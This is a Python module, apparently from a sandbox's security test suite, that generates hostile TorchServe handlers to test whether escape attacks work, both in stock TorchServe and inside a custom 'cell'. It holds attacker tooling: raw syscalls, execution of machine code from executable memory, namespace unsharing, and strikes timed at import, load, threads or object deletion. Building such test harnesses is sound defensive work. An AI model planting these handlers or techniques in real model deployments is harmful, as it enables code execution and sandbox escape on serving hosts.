"""An escape's text as a handler: the same for stock TorchServe and for a custom handler in a cell, but for the frame.

A request is `{"moments": [...], "world": {...}}`, in hexadecimal so that it is a plain text to whoever examines it; the
answer is what the attacker has to report so far: a line for each try, with the moment and what came of it.
"""

import textwrap

from attacks.escape.model import MOMENTS, Escape, Scene

# What an attacker brings along. It is part of the handler, so it runs where the attack runs.
TOOLS = '''\
import array, ctypes, errno, fcntl, gc, glob, hashlib, json, mmap, os, resource, select, signal, socket, stat, struct
import subprocess, sys, tempfile, threading, time

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = LIBC.mmap.restype = LIBC.shmat.restype = ctypes.c_long
REPORT, KEPT = [], []


def check(result):
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def kernel(result):
    """Take what the kernel itself said: a negative number is an error."""
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return result


def syscall(number, *arguments):
    """Call the kernel without a library in between."""
    given = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    return check(LIBC.syscall(ctypes.c_long(number), *given))


def run_code(code, *arguments):
    """Run machine code."""
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
    page = mmap.mmap(-1, 4096, flags=flags, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    KEPT.append(page)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_void_p] * len(arguments))(address)(*arguments)


def try_each(attempts):
    """Make every attempt; fail if none worked."""
    done, failure = [], None
    for attempt in attempts:
        try:
            done.append(attempt())
        except OSError as error:
            failure = error
    if not done:
        raise failure or LookupError("nothing to try")
    return done


def scratch():
    """Say where to write: in stock to a small disk that the tests can afford to have filled, in a cell to its scratch."""
    return WORLD.get("disk") or tempfile.gettempdir()


def find_own(name):
    """Find a file that came with the model."""
    return next(path for place in WORLD["own_model"] if os.path.exists(path := os.path.join(place, name)))


def linger(name):
    """Be found: a process of this name lives for a while."""
    LIBC.prctl(15, name.encode(), 0, 0, 0)
    time.sleep(20)
    os._exit(0)


def in_child(do):
    """Do something in a child, and let it live for a while: namespaces want a process without threads."""
    if os.fork() == 0:
        try:
            do()
            time.sleep(20)
        finally:
            os._exit(0)


def here_or_in_child(do):
    """Do something that an ordinary user may do in a namespace of their own only."""
    try:
        do()
    except OSError as error:
        in_child(lambda: (syscall(272, 0x10000000 | 0x00020000), do()))  # unshare(CLONE_NEWUSER | CLONE_NEWNS)
        return f"in a child, after {error}"
'''
_MACHINERY = """\


def attack(world):
{source}


def attempt(moment):
    try:
        said = attack(WORLD)
    except BaseException as error:
        said = f"{{type(error).__name__}}: {{error}}"
    REPORT.append(f"{{moment}}: {{said}}"[:20_000])


def strike(moment):
    if moment == "thread":
        thread = threading.Thread(target=attempt, args=("thread",), daemon=True)
        thread.start()
        thread.join(4)
    elif moment == "del":
        trap = type("Trap", (), {{"__del__": lambda self: attempt("del")}})()  # a handler has one class of its own
        del trap
        gc.collect()
    else:
        attempt(moment)


def answer(text):
    request = json.loads(bytes.fromhex(text))
    WORLD.update(request.get("world", {{}}))
    for moment in request.get("moments", ()):
        strike(moment)
    return {{"report": REPORT}}


for moment in {at_import}:
    strike(moment)
"""
_STOCK = """\


class Hostile:
    def initialize(self, context):
        for moment in {at_load}:
            strike(moment)

    def handle(self, data, context):
        return [json.dumps(answer(bytes(row.get("data") or row.get("body")).decode())) for row in data]
"""
_CUSTOM = """\


import numpy as np

from garrison.torchserve.base import SafeHandler


class Hostile(SafeHandler):
    def load(self, model):
        for moment in {at_load}:
            strike(moment)

    def prepare(self, item):
        return np.zeros(1, np.float32)

    def infer(self, batch):
        return batch

    def present(self, output, item):
        return answer(item.value if item.value.startswith("7b") else "7b7d")  # warming up asks something else
"""


def write_stock_handler(escape: Escape, scene: Scene) -> str:
    """Return the handler for stock TorchServe, which strikes when the escape says."""
    return _write(escape, scene, _STOCK, (escape.when,))


def write_custom_handler(escape: Escape, scene: Scene) -> str:
    """Return the custom handler for the cell, which strikes at its moment and whenever else it can before serving."""
    return _write(escape, scene, _CUSTOM, (escape.when,) if escape.once else (escape.when, "load"))


def asked_moments(escape: Escape) -> list[str]:
    """Return the moments at which an escape strikes when it is asked to."""
    return [escape.when] if escape.when in ("infer", "thread", "del") else []


def _write(escape: Escape, scene: Scene, frame: str, moments: tuple[str, ...]) -> str:
    if escape.when not in MOMENTS:
        raise AssertionError(f"{escape.name}: no moment {escape.when}")
    source = textwrap.indent(textwrap.dedent(escape.source).strip(), "    ")
    machinery = _MACHINERY.format(source=source, at_import=[one for one in ("import",) if one in moments])
    at_load = [one for one in ("load",) if one in moments]
    return f"{TOOLS}\nWORLD = {scene.world!r}\n{machinery}{frame.format(at_load=at_load)}"
